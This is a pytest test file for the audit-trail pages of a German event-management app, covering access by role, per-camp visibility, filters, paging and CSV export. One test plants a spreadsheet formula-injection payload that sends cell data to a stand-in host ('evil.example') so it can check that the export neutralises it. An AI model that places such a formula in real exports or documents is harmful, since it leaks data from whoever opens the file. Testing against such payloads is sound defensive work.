"""The trail's pages: who sees which part, what it shows, filters, paging and the CSV export."""

import csv
import io
from datetime import timedelta

import pytest
import sqlalchemy as sa

from pitchday.database import utcnow
from pitchday.models import AuditEntry, Juror
from pitchday.services.audit import trail as audit
from pitchday.services.events import schedule
from tests.access import LOGIN, ROLES, assert_access
from tests.applications.conftest import make_event
from tests.conftest import FormClient, create_user, log_in


def _rows(response) -> list[list[str]]:
    text = response.get_data(as_text=True).lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text), delimiter=";" if text.split("\r\n")[0].count(";") else ","))


def test_the_trail_shows_a_published_event_a_decision_and_an_export_with_who_and_when(
        client, login, event, application, organiser, db):
    login(organiser)
    assert client.post_form(f"/events/{event.id}/publish").status_code == 302
    assert client.post_form(f"/applications/{application.id}/decide",
                            {"status": "shortlisted", "seen": "submitted"}).status_code == 302
    export = client.get(f"/events/{event.id}/registrations/export.csv")
    assert export.status_code == 200

    page = client.get("/audit/")
    html = page.get_data(as_text=True)
    assert page.status_code == 200
    for text in ("Veranstaltung veröffentlicht", "Über Bewerbung entschieden", "Anmeldungen exportiert",
                 "Pitch Day Essen", "Kohlekraft", "Entwurf", "Veröffentlicht", "Eingereicht", "Engere Wahl"):
        assert text in html, text
    assert html.count("Olga Orga") >= 3
    assert html.count('datetime="') >= 3
    entries = db.session.scalars(sa.select(AuditEntry).where(AuditEntry.actor_id == organiser.id)).all()
    assert {e.action for e in entries} >= {"event.published", "application.decided", "export.registrations"}
    assert all(utcnow() - e.at < timedelta(minutes=1) for e in entries)


# (url, expected per role in ROLES order: anonymous, member, organiser (Essen), other organiser, hub admin)
TABLE = [
    ("/audit/", [LOGIN, 403, 200, 200, 200]),
    ("/audit/?camp=essen", [LOGIN, 403, 200, 403, 200]),
    ("/audit/?camp=dortmund", [LOGIN, 403, 403, 200, 200]),
]
DOWNLOADS = [
    ("/audit/export.csv", [LOGIN, 403, 200, 200, 200]),
    ("/audit/export.csv?camp=essen", [LOGIN, 403, 200, 403, 200]),
]


@pytest.mark.parametrize("role", ROLES)
def test_who_may_read_the_trail(app, people, role):
    assert_access(app, people, role, TABLE)


@pytest.mark.parametrize("role", ROLES)
def test_who_may_download_the_trail(app, people, role):
    client = FormClient(app.test_client())
    if role != "anonymous":
        log_in(client, people[role])
    for url, expected_by_role in DOWNLOADS:
        expected = expected_by_role[ROLES.index(role)]
        response = client.get(url)
        response.get_data()  # a streamed download is read to its end, as a browser would
        response.close()
        if expected == LOGIN:
            assert response.status_code == 302 and "/auth/login" in response.headers["Location"], (role, url)
        else:
            assert response.status_code == expected, (role, url, response.status_code)


def test_a_juror_link_does_not_open_the_trail(app, client, event, db):
    from pitchday.services.accounts import role_links

    juror = Juror(event_id=event.id, user=create_user("jana@example.org", "Jana Juror", password=None))
    db.session.add(juror)
    db.session.commit()
    with app.test_request_context():
        token = role_links.make_token(juror.user, "juror", event.id)
    assert client.get(f"/auth/link/{token}").status_code == 302
    for url in ("/audit/", "/audit/export.csv"):
        response = client.get(url)
        assert response.status_code in (302, 403), url
        assert "Änderungsprotokoll" not in response.get_data(as_text=True), url


def test_each_camp_sees_only_its_own_part(client, db, camps, organiser, other_organiser, hub_admin, member):
    essen = make_event(db, camps["essen"], title="Essen Abend")
    dortmund = make_event(db, camps["dortmund"], title="Dortmund Abend")
    audit.record(organiser, "event.updated", subject=essen, after={"title": "Essen Abend"})
    audit.record(other_organiser, "event.updated", subject=dortmund, after={"title": "Dortmund Abend"})
    audit.record(hub_admin, "role.granted", subject=member, after={"role": "hub_admin"})  # hub-wide, no camp
    db.session.commit()

    log_in(client, organiser)
    html = client.get("/audit/").get_data(as_text=True)
    assert "Essen Abend" in html and "Dortmund Abend" not in html and "member@example.org" not in html
    csv_text = client.get("/audit/export.csv").get_data(as_text=True)
    assert "Essen Abend" in csv_text and "Dortmund Abend" not in csv_text

    client.post_form("/auth/logout")
    log_in(client, hub_admin)
    html = client.get("/audit/").get_data(as_text=True)
    assert "Essen Abend" in html and "Dortmund Abend" in html and "Mia Member" in html


def test_filters_narrow_the_trail(client, db, camps, organiser, hub_admin):
    event = make_event(db, camps["essen"], title="Filterabend")
    other = make_event(db, camps["essen"], title="Anderer Abend")
    audit.record(organiser, "event.published", subject=event, before={"status": "draft"},
                 after={"status": "published"})
    audit.record(hub_admin, "event.cancelled", subject=other, before={"status": "published"},
                 after={"status": "cancelled"})
    db.session.commit()
    log_in(client, organiser)

    def shown(query):
        response = client.get("/audit/" + query)
        assert response.status_code == 200, (query, response.status_code)
        html = response.get_data(as_text=True)
        return {title for title in ("Filterabend", "Anderer Abend") if title in html.split("<tbody>")[-1]}

    assert shown("") == {"Filterabend", "Anderer Abend"}
    assert shown(f"?who={hub_admin.id}") == {"Anderer Abend"}
    assert shown("?kind=event.published") == {"Filterabend"}
    assert shown("?kind=event") == {"Filterabend", "Anderer Abend"}
    assert shown("?kind=application") == set()
    assert shown(f"?subject=event:{event.id}") == {"Filterabend"}
    assert shown(f"?event={other.id}") == {"Anderer Abend"}
    today = utcnow().date()
    assert shown(f"?since={today - timedelta(days=1)}&until={today + timedelta(days=1)}") == {
        "Filterabend", "Anderer Abend"}
    assert shown(f"?since={today + timedelta(days=2)}") == set()


@pytest.mark.parametrize("query", ["?since=gestern", "?until=2026-13-40", "?who=abc", "?who=%00",
                                   "?kind=%00", "?subject=event:99999999999", "?subject=x", "?event=2147483648",
                                   "?event=-1", "?since=2026-05-02&until=2026-05-01", "?camp=%00",
                                   "?since=0001-01-01", "?until=9999-12-31", "?kind=%ff"])
def test_bad_filters_answer_400_never_500(client, organiser, query):
    log_in(client, organiser)
    assert client.get("/audit/" + query).status_code == 400
    assert client.get("/audit/export.csv" + query).status_code == 400


def test_pages_of_fifty(client, db, camps, organiser):
    event = make_event(db, camps["essen"])
    for number in range(55):
        audit.record(organiser, "event.updated", subject=event, after={"capacity": number})
    db.session.commit()
    log_in(client, organiser)
    first = client.get("/audit/").get_data(as_text=True)
    assert "Seite 1 von 2" in first and first.count("<tr>") == 51
    second = client.get("/audit/?page=2").get_data(as_text=True)
    assert second.count("<tr>") == 1 + 5 + 1  # header, five entries, and the fixture's role grant
    assert client.get("/audit/?page=999999").status_code == 200
    assert client.get("/audit/?page=abc").status_code == 200


def test_the_csv_export_is_neutralised_in_both_dialects_and_on_record(client, db, camps, organiser):
    event = make_event(db, camps["essen"], title='=HYPERLINK("http://evil.example/?d="&A2,"x")')
    schedule.update(event, by=organiser, title="@SUM(1+1)")
    db.session.commit()
    log_in(client, organiser)
    german = client.get("/audit/export.csv?format=de&kind=event")
    assert german.status_code == 200 and german.mimetype == "text/csv"
    assert "attachment" in german.headers["Content-Disposition"]
    rows = _rows(german)
    assert rows[0][:4] == ["Wann", "Wer", "E-Mail", "Was"]
    [row] = rows[1:]
    # the subject as it read when changed, made plain text; the change names both titles
    assert row[1] == "Olga Orga" and row[3] == "Veranstaltung geändert" and row[6].startswith("'=HYPERLINK(")
    assert row[8].startswith("Titel: ") and row[8].endswith("→ @SUM(1+1)")
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
    international = _rows(client.get("/audit/export.csv?format=intl&kind=event"))
    assert international[1][6].startswith("'=HYPERLINK(")
    exported = db.session.scalars(sa.select(AuditEntry).where(AuditEntry.action == "export.audit")).all()
    assert [e.after["rows"] for e in exported] == [1, 1]
    assert exported[0].after["filters"] == {"kind": "event"}


def test_nothing_in_the_app_changes_or_deletes_an_entry(app, client, organiser):
    audit_routes = [r for r in app.url_map.iter_rules() if r.rule.startswith("/audit")]
    assert {m for r in audit_routes for m in r.methods} <= {"GET", "HEAD", "OPTIONS"}
    log_in(client, organiser)
    assert client.post_form("/audit/").status_code == 405


def test_every_csv_download_of_the_app_is_recorded(app):
    """A new CSV route must say who downloaded what: its view calls ``record_export`` (and has a name for it)."""
    import inspect

    from pitchday.services.audit import labels

    downloads = [r for r in app.url_map.iter_rules() if r.rule.endswith(".csv")]
    assert len(downloads) >= 9
    for rule in downloads:
        view = inspect.unwrap(app.view_functions[rule.endpoint])
        source = inspect.getsource(view)
        assert "audit.record_export(" in source, rule.rule
        what = source.split("audit.record_export(", 1)[1].split('"')[1]
        assert f"export.{what}" in labels.ACTIONS, rule.rule


def test_a_page_of_the_trail_reads_in_a_fixed_number_of_queries(client, db, camps, organiser, hub_admin):
    events = [make_event(db, camps[slug], title=f"Abend {slug}") for slug in ("essen", "dortmund", "bochum")]
    log_in(client, hub_admin)

    def count_queries() -> int:
        statements = []

        def listener(*args):
            statements.append(args[2])

        sa.event.listen(db.engine, "before_cursor_execute", listener)
        try:
            assert client.get("/audit/").status_code == 200
        finally:
            sa.event.remove(db.engine, "before_cursor_execute", listener)
        return len(statements)

    audit.record(organiser, "event.updated", subject=events[0], after={"capacity": 1})
    db.session.commit()
    few = count_queries()
    for number in range(40):
        audit.record(hub_admin if number % 2 else organiser, "event.updated", subject=events[number % 3],
                     after={"capacity": number})
    db.session.commit()
    assert count_queries() == few


def test_the_event_page_links_its_managers_to_the_events_entries(client, db, event, organiser, other_organiser):
    schedule.publish(event, by=organiser)
    db.session.commit()
    link = f'href="/audit/?event={event.id}"'
    assert link not in client.get(f"/events/{event.id}").get_data(as_text=True)
    log_in(client, other_organiser)
    assert link not in client.get(f"/events/{event.id}").get_data(as_text=True)
    client.post_form("/auth/logout")
    log_in(client, organiser)
    assert link in client.get(f"/events/{event.id}").get_data(as_text=True)
    rows = client.get(f"/audit/?event={event.id}").get_data(as_text=True).split("<tbody>")[1]
    assert "Veranstaltung veröffentlicht" in rows and "Rolle vergeben" not in rows  # the fixture's role grant
